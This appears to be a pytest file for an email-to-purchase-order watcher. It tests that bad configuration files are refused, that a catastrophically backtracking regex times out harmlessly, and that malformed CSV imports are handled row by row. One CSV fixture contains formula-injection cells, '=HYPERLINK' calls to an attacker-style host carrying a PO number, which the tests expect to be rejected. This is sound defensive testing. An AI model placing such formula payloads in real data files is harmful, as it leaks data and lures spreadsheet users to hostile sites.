"""Hostile configuration and PO-record files, through the real command line and a real Dovecot.

* A customer pattern that does not compile, one that matches the empty string, and unknown keys:
  ``check`` and ``poll`` exit 2 and ``run`` exits 78 (EX_CONFIG), each problem named by file and
  key, and nothing is touched (no database is created).
* A pattern that backtracks catastrophically on a crafted body: the poll finishes, the message
  gets a reason naming the pattern timeout, and the other mail in the folder is linked as usual.
* PO-record CSV files in cp1252, with a BOM, ``;``-separated, with ``=HYPERLINK(...)`` cells and
  with an unterminated quote, imported with ``po-watcher pos import``: the good rows load (and
  re-judge the polled mail that names them), each bad row is reported with its line.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest

from inbox_watcher.model import PoRecord, Status
from inbox_watcher.store import Store, StoredMessage
from tests.reliability import hostile_mail as h
from tests.reliability.hostile_mail import poll, stored
from tests.servers import Dovecot, ImapUser
from tests.setup_config import REPO, write_config

EX_CONFIG = 78
EXIT_CHECK = 2


def cli(cfg: Path, *args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "inbox_watcher", "--config", str(cfg), *args],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


# --- broken configuration ---------------------------------------------------------------------


@dataclass(frozen=True)
class BadConfig:
    customer: str  # the text of customers/bad.toml
    watcher_extra: str  # appended to watcher.toml
    imap_extra: str  # appended to [imap]
    expected: tuple[str, ...]  # lines (or line parts) that must be printed, one per problem


def _customer(pattern: str, extra: str = "") -> str:
    return f'name = "Bad Co"\nsenders = ["*@bad.example"]\n\n[po]\npattern = \'{pattern}\'\n{extra}'


CONFIGS = [
    pytest.param(
        BadConfig(
            customer=_customer(r"(?P<num>\d{6}"),
            watcher_extra="",
            imap_extra="",
            expected=("bad.toml: po.pattern: does not compile",),
        ),
        id="pattern-does-not-compile",
    ),
    pytest.param(
        BadConfig(
            customer=_customer(r"(?P<num>\d*)"),
            watcher_extra="",
            imap_extra="",
            expected=("bad.toml: po.pattern: matches the empty string",),
        ),
        id="pattern-matches-empty",
    ),
    pytest.param(
        BadConfig(
            customer=_customer(r"BAD-\d{6}", "patern = 'x'\ncolour = 'red'\n"),
            watcher_extra='[imapp]\nhost = "x"\n\n[limits]\nmax_pages = 10\n',
            imap_extra='polling = "5m"\n',
            expected=(
                "bad.toml: po.patern:",
                "bad.toml: po.colour:",
                "watcher.toml: imapp:",
                "watcher.toml: imap.polling:",
                "watcher.toml: limits.max_pages:",
            ),
        ),
        id="unknown-keys",
    ),
]


@pytest.mark.parametrize("bad", CONFIGS)
@pytest.mark.parametrize(
    ("command", "code"),
    [("check", EXIT_CHECK), ("poll", EXIT_CHECK), ("run", EX_CONFIG)],
)
def test_broken_configuration_is_refused_whole(
    dovecot: Dovecot,
    imap_user: ImapUser,
    *,
    tmp_path: Path,
    bad: BadConfig,
    command: str,
    code: int,
) -> None:
    cfg = write_config(tmp_path, imap_user, extra_imap=bad.imap_extra, extra=bad.watcher_extra)
    (tmp_path / "customers" / "bad.toml").write_text(bad.customer, encoding="utf-8")
    dovecot.append(imap_user.username, "INBOX", [h.plain(1, "order", f"PO {h.KNOWN}")])
    result = cli(cfg, command, timeout=60)
    assert result.returncode == code, (result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    for words in bad.expected:
        assert any(words in line for line in lines), (words, lines)
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "state.db").exists(), "a refused configuration touched the database"


# --- a pattern that backtracks catastrophically --------------------------------------------------

SLOW_CUSTOMER = """
name = "Slow Co"
senders = ["*@slowco.example"]

[po]
# (\\d|\\d\\d)+ before a letter that never comes: exponential on a long run of digits
pattern = 'SC-(?P<num>(?:\\d|\\d\\d)+)X'
"""


@dataclass
class SlowRun:
    uids: list[int]
    got: dict[int, StoredMessage]
    seconds: float
    errors: list[str]


@pytest.fixture(scope="module")
def slow_run(dovecot: Dovecot, tmp_path_factory: pytest.TempPathFactory) -> SlowRun:
    tmp = tmp_path_factory.mktemp("slow")
    if not dovecot.running:
        dovecot.start()
    user = dovecot.add_user("slowpattern", "pw-slowpattern")
    cfg = write_config(tmp, user, extra='[limits]\npattern_timeout = "0.2s"\n')
    (tmp / "customers" / "slowco.toml").write_text(SLOW_CUSTOMER, encoding="utf-8")
    with Store.open(f"sqlite:///{tmp / 'state.db'}") as store:
        store.upsert_pos([PoRecord(h.KNOWN, "westside"), PoRecord("SC-1234X", "slowco")])
    crafted = "SC-" + "1" * 60 + "!"
    mails = [
        h.plain(1, "before", f"PO {h.KNOWN}"),
        h.plain(2, "crafted", f"Order SC-1234X\n\n{crafted}").replace(
            h.SENDER.encode(), b"buyer@slowco.example"
        ),
        h.plain(3, "crafted, unknown sender", crafted).replace(
            h.SENDER.encode(), b"someone@elsewhere.example"
        ),
        h.plain(4, "after", f"PO {h.KNOWN}"),
    ]
    uids = dovecot.append(user.username, "INBOX", mails)
    started = time.monotonic()
    summary = poll(cfg)
    seconds = time.monotonic() - started
    got = {m.key.uid: m for m in stored(tmp / "state.db")}
    return SlowRun(uids, got, seconds, summary.errors)


def test_catastrophic_pattern_costs_a_reason_not_the_poll(slow_run: SlowRun) -> None:
    run = slow_run
    assert run.seconds < 60
    assert run.errors == []
    assert sorted(run.got) == sorted(run.uids)
    for uid in (run.uids[0], run.uids[3]):
        assert (run.got[uid].status, run.got[uid].po_numbers) == (Status.LINKED, (h.KNOWN,))
    for uid in (run.uids[1], run.uids[2]):
        reasons = " | ".join(run.got[uid].reasons)
        assert (
            "pattern of customer slowco (its customer file slowco.toml) took too long" in reasons
        ), (run.got[uid].status, reasons)
        assert "slowco" in reasons.lower(), reasons


def test_catastrophic_pattern_keeps_what_was_found_before(slow_run: SlowRun) -> None:
    m = slow_run.got[slow_run.uids[1]]
    assert m.po_numbers == ("SC-1234X",), m.reasons
    assert not any("No PO number was found" in r for r in m.reasons), m.reasons


# --- PO-record CSV files --------------------------------------------------------------------------


@dataclass(frozen=True)
class CsvCase:
    data: bytes
    loaded: tuple[str, ...]  # PO numbers that must be loaded (and link their mail)
    refused: tuple[str, ...]  # PO numbers that must not be loaded (their mail stays unknown)
    errors: tuple[str, ...]  # words that must appear on stderr (line numbers, reasons)
    amounts: tuple[tuple[str, Decimal], ...] = ()
    buyer: tuple[str, str] | None = None


PO_A, PO_B, PO_C = "2024-00801-MT", "2024-00802-MT", "2024-00803-MT"

CSVS = [
    pytest.param(
        CsvCase(
            data=(
                "po_number,customer,buyer\n"
                f"{PO_A},westside,Jürgen Müller\n"
                f"{PO_B},westside,Zoë Œuvre €\n"
            ).encode("cp1252"),
            loaded=(PO_A, PO_B),
            refused=(),
            errors=("Windows-1252",),
            buyer=(PO_A, "Jürgen Müller"),
        ),
        id="cp1252",
    ),
    pytest.param(
        CsvCase(
            data=b"\xef\xbb\xbf"
            + f"po_number,customer\n{PO_A},westside\n{PO_B},westside\n".encode(),
            loaded=(PO_A, PO_B),
            refused=(),
            errors=(),
        ),
        id="utf8-bom",
    ),
    pytest.param(
        CsvCase(
            data=(
                "po_number;customer;amount;currency\n"
                f"{PO_A};westside;1.234,50;EUR\n"
                f"{PO_B};westside;99,95;EUR\n"
            ).encode(),
            loaded=(PO_A, PO_B),
            refused=(),
            errors=(),
            amounts=((PO_A, Decimal("1234.50")), (PO_B, Decimal("99.95"))),
        ),
        id="semicolon-separated",
    ),
    pytest.param(
        CsvCase(
            data=(
                "po_number,customer,buyer\n"
                f"{PO_A},westside,Ann\n"
                f'"=HYPERLINK(""http://evil.example/?{PO_B}"",""{PO_B}"")",westside,Bob\n'
                f'{PO_C},westside,"=HYPERLINK(""http://evil.example"",""click"")"\n'
            ).encode(),
            loaded=(PO_A,),
            refused=(PO_B, PO_C),
            errors=("line 3, column po_number", "line 4, column buyer", "formula"),
        ),
        id="hyperlink-formula-cells",
    ),
    pytest.param(
        CsvCase(
            data=(
                "po_number,customer,buyer\n"
                f"{PO_A},westside,Ann\n"
                f'{PO_B},westside,"Bob the unterminated\n'
                f"{PO_C},westside,Cy\n"
            ).encode(),
            loaded=(PO_A, PO_C),
            refused=(PO_B,),
            errors=("line 3", "unterminated quote"),
        ),
        id="unterminated-quote",
    ),
]


@pytest.mark.parametrize("case", CSVS)
def test_po_csv_import_end_to_end(
    dovecot: Dovecot, imap_user: ImapUser, tmp_path: Path, case: CsvCase
) -> None:
    cfg = write_config(tmp_path, imap_user)
    numbers = (PO_A, PO_B, PO_C)
    uids = dovecot.append(
        imap_user.username,
        "INBOX",
        [h.plain(i, f"order {n}", f"Please ship PO {n}.") for i, n in enumerate(numbers)],
    )
    poll(cfg)
    before = {m.key.uid: m.status for m in stored(tmp_path / "state.db")}
    assert set(before.values()) == {Status.UNKNOWN}
    csv_path = tmp_path / "pos.csv"
    csv_path.write_bytes(case.data)
    result = cli(cfg, "pos", "import", str(csv_path))
    # 1 when a row was refused (the good rows are loaded all the same): an import notices.
    assert result.returncode == (1 if case.refused else 0), result.stderr
    assert "Traceback" not in result.stderr
    for words in case.errors:
        assert words in result.stderr, (words, result.stderr)
    assert f"{len(case.loaded)} PO record(s) added" in result.stdout, result.stdout
    with Store.open(f"sqlite:///{tmp_path / 'state.db'}") as store:
        records = dict(store.po_index().get("westside", {}))
    assert sorted(records) == sorted(case.loaded)
    for number, amount in case.amounts:
        assert records[number].amount == amount
    if case.buyer is not None:
        assert records[case.buyer[0]].buyer == case.buyer[1]
    after = {m.key.uid: m for m in stored(tmp_path / "state.db")}
    for uid, number in zip(uids, numbers, strict=True):
        m = after[uid]
        if number in case.loaded:
            assert (m.status, m.po_numbers) == (Status.LINKED, (number,)), m.reasons
        else:
            assert m.status is Status.UNKNOWN, m.reasons
